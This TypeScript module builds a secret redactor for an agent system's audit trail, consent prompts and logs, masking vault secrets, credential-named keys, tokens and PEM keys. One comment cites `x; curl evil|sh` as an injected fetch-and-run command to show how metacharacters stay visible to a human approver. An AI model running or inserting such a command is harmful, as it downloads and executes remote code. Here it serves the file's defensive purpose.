import { DEFAULT_REDACTION, PEM_PRIVATE_KEY_BLOCK, QUICK_PROBES, REDACTED, type RedactionRules } from "./rules.js";
import { BASE64_FIELDS, redactBase64Bytes } from "./base64-fields.js";
import { acrossPieces, mayHoldPercentSpelling } from "./joined-pieces.js";
import { spellSecrets, type SecretSpellings } from "./secret-variants.js";
import { WorkBudgetExceededError, withWorkBudget, type LinearPattern } from "../glob/index.js";

/**
 * Redacts one value: returns it unchanged (the same reference) when nothing matched, otherwise a copy
 * with every secret replaced. Never mutates its input.
 */
export type Redactor = (value: unknown) => unknown;

/** Options of {@link createRedactor} beyond the pattern rules. */
export interface RedactorOptions {
  /**
   * Known secret values (the vault entries in use): every occurrence in a string, a key name or the
   * digits of a number is replaced. Read on every call, so a vault opened later counts. Empty strings
   * are ignored; longer values are replaced first.
   */
  readonly secrets?: () => readonly string[];
  /** What a secret is replaced with; default {@link REDACTED}. */
  readonly placeholder?: string;
  /** Values nested deeper than this are replaced whole (default 128); so are cycles. */
  readonly maxDepth?: number;
}

function keyPatternSource(pattern: string): string {
  return pattern
    .split("")
    .map((c) => (c === "*" ? ".*" : c === "?" ? "." : c.replace(/[.+^${}()|[\]\\/-]/g, "\\$&")))
    .join("");
}

function globalCopy(re: RegExp | LinearPattern): RegExp | LinearPattern {
  if (!(re instanceof RegExp)) return re;
  return re.global ? new RegExp(re.source, re.flags) : new RegExp(re.source, `${re.flags}g`);
}

/**
 * The work units one string may cost each linear-time pattern: 32 per character and 32,768 more, some
 * ten times what a pattern spends on ordinary text. Past it the pattern reads the whole string as its
 * match (hidden as under a secret-named key: words hidden, spaces and shell metacharacters kept), so a
 * hostile string costs bounded time and never shows what the pattern was meant to hide.
 */
function linearBudget(text: string): number {
  return 32 * (text.length + 1024);
}

/** `text` with every match of a linear-time pattern hidden; the whole string when its budget is spent. */
function replaceLinear(pattern: LinearPattern, text: string, hide: (match: string) => string): string {
  try {
    return withWorkBudget(linearBudget(text), () => (pattern.test(text) ? pattern.replaceAll(text, hide) : text));
  } catch (err) {
    if (err instanceof WorkBudgetExceededError) return hide(text);
    throw err;
  }
}

/**
 * One case-insensitive alternation of every value pattern, for a single quick test per string: it
 * matches wherever any pattern matches (ignoring case and `s`/`m` only widen), so a string it does not
 * match needs no further work. `undefined` when patterns cannot be merged (flags `u`/`v`, or group
 * references, whose numbering the alternation would shift). A built-in pattern that starts with a
 * lookbehind is searched as its cheaper probe (`QUICK_PROBES`: the same text without lookarounds).
 */
function unionOf(values: readonly (RegExp | LinearPattern)[]): RegExp | undefined {
  const unmergeable = (re: RegExp | LinearPattern): boolean =>
    !(re instanceof RegExp) || /[uv]/.test(re.flags) || /\\[1-9]|\\k<|\(\?<[^=!]/.test(re.source);
  if (values.length === 0 || values.some(unmergeable)) return undefined;
  const flags = `i${values.some((re) => re.flags.includes("s")) ? "s" : ""}${values.some((re) => re.flags.includes("m")) ? "m" : ""}`;
  return new RegExp(values.map((re) => `(?:${QUICK_PROBES.get(re.source) ?? re.source})`).join("|"), flags);
}

/**
 * Under a secret-named key a value is hidden too, but never whitespace, a line break or a shell
 * metacharacter (`$ ( ) ; | & { } < > \` " ' \\`): an agent names the keys of its arguments, and the
 * approved call runs with the original. A string without any of those is replaced whole (a token, a
 * password, an API key); so is a whole `Bearer`/`Basic`/`Token`/`DPoP`/`Bot` credential and a whole PEM
 * private key block. Any other string keeps those characters and has each run between them replaced
 * (`x; curl evil|sh` is shown as `[REDACTED]; [REDACTED] [REDACTED]|[REDACTED]`).
 */
const KEPT_UNDER_KEY = /[\s$()|;&{}<>`"'\\]/;
const HIDDEN_RUN_UNDER_KEY = /[^\s$()|;&{}<>`"'\\]+/g;
const WHOLE_CREDENTIAL = /^(?:bearer|basic|token|dpop|bot) [A-Za-z0-9._~+/-]{1,4096}={0,2}$/i;
const WHOLE_PEM = new RegExp(`^(?:${PEM_PRIVATE_KEY_BLOCK})(?:\\r?\\n)?$`);

function hideUnderKey(text: string, placeholder: string): string {
  if (!KEPT_UNDER_KEY.test(text) || WHOLE_CREDENTIAL.test(text) || WHOLE_PEM.test(text)) return placeholder;
  return text.replace(HIDDEN_RUN_UNDER_KEY, placeholder);
}

const NONE: readonly string[] = [];

/** Longest string whose result is cached. */
const MAX_CACHED_LENGTH = 64;
/** Slots of a {@link StringCache} (a power of two). */
const CACHE_SLOTS = 256;

/**
 * A direct-mapped cache from short strings to what was computed for them: the slot comes from the
 * length and the first and last code units, a collision replaces the entry. Its arrays are made on
 * the first store, so a redactor used once costs nothing for it.
 */
class StringCache<T> {
  private keys: (string | undefined)[] | null = null;
  private values: (T | undefined)[] = [];

  static slotOf(text: string): number {
    const n = text.length;
    return n === 0 ? 0 : (n * 97 + text.charCodeAt(0) * 31 + text.charCodeAt(n - 1)) & (CACHE_SLOTS - 1);
  }

  /** What was stored for `text` at `slot`, or `undefined`. */
  get(text: string, slot: number): T | undefined {
    return this.keys !== null && this.keys[slot] === text ? this.values[slot] : undefined;
  }

  set(text: string, slot: number, value: T): void {
    if (this.keys === null) {
      this.keys = new Array<string | undefined>(CACHE_SLOTS).fill(undefined);
      this.values = new Array<T | undefined>(CACHE_SLOTS).fill(undefined);
    }
    this.keys[slot] = text;
    this.values[slot] = value;
  }

  clear(): void {
    this.keys = null;
    this.values = [];
  }
}

/** Whether two lists hold the same strings in the same order. */
function sameStrings(a: readonly string[], b: readonly string[]): boolean {
  if (a.length !== b.length) return false;
  for (let i = 0; i < a.length; i++) if (a[i] !== b[i]) return false;
  return true;
}

const NO_SPELLINGS: SecretSpellings = { raw: [], strings: [], percentEncoded: [], folded: [] };

/**
 * Known secrets and their spellings ({@link spellSecrets}); recomputed (a new object) only when the
 * source gives other strings. A source that builds a new array with the same strings on every call
 * (`?? []`) keeps the same object, so the redactor's memory of short strings, which is tied to it, is kept.
 */
function secretList(source: (() => readonly string[]) | undefined): () => SecretSpellings {
  let last: readonly string[] | undefined;
  let seen: readonly string[] = [];
  let spelled = NO_SPELLINGS;
  return () => {
    const now = source === undefined ? NONE : source();
    if (now !== last) {
      last = now;
      if (!sameStrings(now, seen)) {
        seen = [...now];
        spelled = now.length === 0 ? NO_SPELLINGS : spellSecrets(now);
      }
    }
    return spelled;
  };
}

/** The text of an array item read joined with its neighbours: a string, or the `text` of an MCP text part or text resource. */
function itemText(item: unknown): string | undefined {
  if (typeof item === "string") return item;
  if (typeof item !== "object" || item === null || Array.isArray(item)) return undefined;
  const text = (item as { text?: unknown }).text;
  return typeof text === "string" && Object.hasOwn(item, "text") ? text : undefined;
}

/**
 * A copy of `list` (its items already redacted one by one) when a secret's spelling runs across the texts
 * of two or more items read in order (an upstream's answer cut into text parts, a value cut into an
 * array's strings): the spelling is replaced in the item it starts in and left out of those it runs on
 * into, each item keeping its place and kind. `undefined` when no spelling runs across items.
 */
function joinedItems(list: readonly unknown[], secrets: SecretSpellings, placeholder: string): unknown[] | undefined {
  const at: number[] = [];
  const texts: string[] = [];
  for (let i = 0; i < list.length; i++) {
    const text = itemText(list[i]);
    if (text === undefined) continue;
    at.push(i);
    texts.push(text);
  }
  const answers = acrossPieces(texts, secrets, (text) => text, placeholder);
  if (answers === undefined) return undefined;
  const out = list.slice();
  at.forEach((i, n) => {
    const item = out[i];
    const answer = answers[n] as string;
    out[i] = typeof item === "string" ? answer : { ...(item as Record<string, unknown>), text: answer };
  });
  return out;
}

/** Replaces every known secret, in any of its spellings (percent-encoded or in other case too), in `text`. */
function hideSecrets(text: string, secrets: SecretSpellings, placeholder: string): string {
  let out = text;
  for (const secret of secrets.strings) if (out.includes(secret)) out = out.split(secret).join(placeholder);
  if (mayHoldPercentSpelling(out, secrets)) {
    for (const re of secrets.percentEncoded) out = out.replace(re, placeholder);
  }
  return out;
}

/**
 * `name#2`, `name#3`, …: the first not yet a key of `out`. Keys redacted to the same text (two tokens
 * used as keys both read `[REDACTED]`) each keep an entry, so a record still says how many there were,
 * rather than the last overwriting the others.
 */
function unusedName(out: Record<string, unknown>, name: string): string {
  let n = 2;
  while (Object.hasOwn(out, `${name}#${n}`)) n++;
  return `${name}#${n}`;
}

function setOwn(out: Record<string, unknown>, key: string, value: unknown): void {
  if (key === "__proto__")
    Object.defineProperty(out, key, { value, enumerable: true, writable: true, configurable: true });
  else out[key] = value;
}

/**
 * The one redactor of ACP: the audit trail, the values shown to a person on a consent channel, and
 * results, errors and logs on their way back to the agent all pass through one of these. A value under
 * a key matching `rules.keys` is replaced whole; every substring matching `rules.values` and every
 * occurrence of a known secret (`options.secrets`) is replaced, in strings and in key names.
 */
export function createRedactor(rules: RedactionRules = DEFAULT_REDACTION, options: RedactorOptions = {}): Redactor {
  const placeholder = options.placeholder ?? REDACTED;
  const maxDepth = options.maxDepth ?? 128;
  const keyRe =
    rules.keys.length === 0 ? undefined : new RegExp(`^(?:${rules.keys.map(keyPatternSource).join("|")})$`, "is");
  const values = rules.values.map(globalCopy);
  // a match is hidden as a value under a secret-named key is: a configured pattern that also matches
  // whitespace or shell metacharacters (`token=.*`) keeps those visible, so it cannot hide a payload from
  // the person approving either (the built-in patterns never match them, or match a whole PEM block)
  const hideMatch = (match: string): string => hideUnderKey(match, placeholder);
  // the quick test covers the V8 patterns only: a linear-time pattern never runs in V8 (it tests itself)
  const native = values.filter((re): re is RegExp => re instanceof RegExp);
  const linearCount = values.length - native.length;
  const any = unionOf(native);
  const secretsNow = secretList(options.secrets);
  // Results for short strings and key names, which repeat on every event (tool names, routes, the
  // keys of parameters), in direct-mapped caches: one slot computed and one comparison, cheaper than
  // the pattern test or a Map lookup. A string's result depends only on it and the known secrets, so
  // the string cache is emptied when the list of secrets changes.
  const keyVerdicts = new StringCache<boolean>();
  const isSecretKey = (key: string): boolean => {
    if (keyRe === undefined) return false;
    if (key.length > MAX_CACHED_LENGTH) return keyRe.test(key);
    const slot = StringCache.slotOf(key);
    let hit = keyVerdicts.get(key, slot);
    if (hit === undefined) {
      hit = keyRe.test(key);
      keyVerdicts.set(key, slot, hit);
    }
    return hit;
  };
  const results = new StringCache<string>();
  let resultsFor: SecretSpellings | undefined;
  const redactString = (text: string, secrets: SecretSpellings): string => {
    if (text.length > MAX_CACHED_LENGTH) return redactText(text, secrets);
    if (resultsFor !== secrets) {
      results.clear();
      resultsFor = secrets;
    }
    const slot = StringCache.slotOf(text);
    let out = results.get(text, slot);
    if (out === undefined) {
      out = redactText(text, secrets);
      results.set(text, slot, out);
    }
    return out;
  };
  const redactText = (text: string, secrets: SecretSpellings): string => {
    let out = hideSecrets(text, secrets, placeholder);
    const nativeHit = native.length > 0 && (any === undefined || any.test(out));
    if (!nativeHit && linearCount === 0) return out;
    for (const re of values) {
      if (!(re instanceof RegExp)) {
        out = replaceLinear(re, out, hideMatch);
        continue;
      }
      if (!nativeHit) continue;
      re.lastIndex = 0;
      if (re.test(out)) {
        re.lastIndex = 0;
        out = out.replace(re, hideMatch);
      }
    }
    return out;
  };
  const hideBytes = (text: string, spelled: SecretSpellings): string => hideSecrets(text, spelled, placeholder);
  const path: object[] = []; // the objects being walked, root first (cycle check without a Set per call)
  let secrets: SecretSpellings = NO_SPELLINGS;
  // `hidden`: under a secret-named key (at any depth below it): scalars are replaced, strings as
  // `hideUnderKey` says; objects and arrays are walked so their shape and key names stay readable.
  const walk = (value: unknown, depth: number, hidden: boolean): unknown => {
    if (typeof value === "string") {
      if (!hidden) return redactString(value, secrets);
      return hideUnderKey(hideSecrets(value, secrets, placeholder), placeholder);
    }
    if (typeof value === "number" || typeof value === "bigint") {
      if (hidden) return placeholder;
      if (secrets.strings.length === 0) return value;
      const digits = String(value);
      return secrets.strings.some((s) => digits.includes(s)) ? placeholder : value;
    }
    if (value === null || typeof value !== "object") return hidden ? placeholder : value;
    if (depth > maxDepth || path.includes(value)) return placeholder;
    path.push(value);
    try {
      return Array.isArray(value)
        ? walkArray(value as readonly unknown[], depth, hidden)
        : walkObject(value, depth, hidden);
    } finally {
      path.pop();
    }
  };
  const walkArray = (list: readonly unknown[], depth: number, hidden: boolean): readonly unknown[] => {
    let out: unknown[] | undefined;
    for (let i = 0; i < list.length; i++) {
      const next = walk(list[i], depth + 1, hidden);
      if (next !== list[i]) (out ??= list.slice())[i] = next;
    }
    const joined = hidden || secrets.strings.length === 0 ? undefined : joinedItems(out ?? list, secrets, placeholder);
    return joined ?? out ?? list;
  };
  // Builds a copy only from the first key that changes; an untouched object costs no allocation.
  const walkObject = (record: object, depth: number, hidden: boolean): object => {
    const source = record as Record<string, unknown>;
    const keys = Object.keys(source);
    let out: Record<string, unknown> | undefined;
    for (let i = 0; i < keys.length; i++) {
      const key = keys[i] as string;
      const child = source[key];
      const under = hidden || isSecretKey(key);
      // a `blob` or `data` of base64 whose bytes hold a secret: the bytes hidden, the base64 kept valid
      const bytes =
        !under && typeof child === "string" && secrets.raw.length > 0 && BASE64_FIELDS.has(key)
          ? redactBase64Bytes(child, secrets, hideBytes)
          : undefined;
      const next = bytes !== undefined ? redactString(bytes, secrets) : walk(child, depth + 1, under);
      const name = redactString(key, secrets);
      if (out === undefined && (next !== child || name !== key)) {
        out = {};
        for (let j = 0; j < i; j++) setOwn(out, keys[j] as string, source[keys[j] as string]);
      }
      if (out !== undefined) setOwn(out, Object.hasOwn(out, name) ? unusedName(out, name) : name, next);
    }
    return out ?? record;
  };
  return (root) => {
    secrets = secretsNow();
    if (typeof root === "string") return redactString(root, secrets);
    return walk(root, 0, false);
  };
}

/**
 * A deep copy of `value` with every known secret value (and whatever `rules` match) replaced by
 * {@link REDACTED}; shorthand for `createRedactor(rules, { secrets })(value)`.
 */
export function redactSecrets(
  value: unknown,
  secrets: Iterable<string>,
  rules: RedactionRules = DEFAULT_REDACTION,
): unknown {
  const list = [...secrets];
  return createRedactor(rules, { secrets: () => list })(value);
}
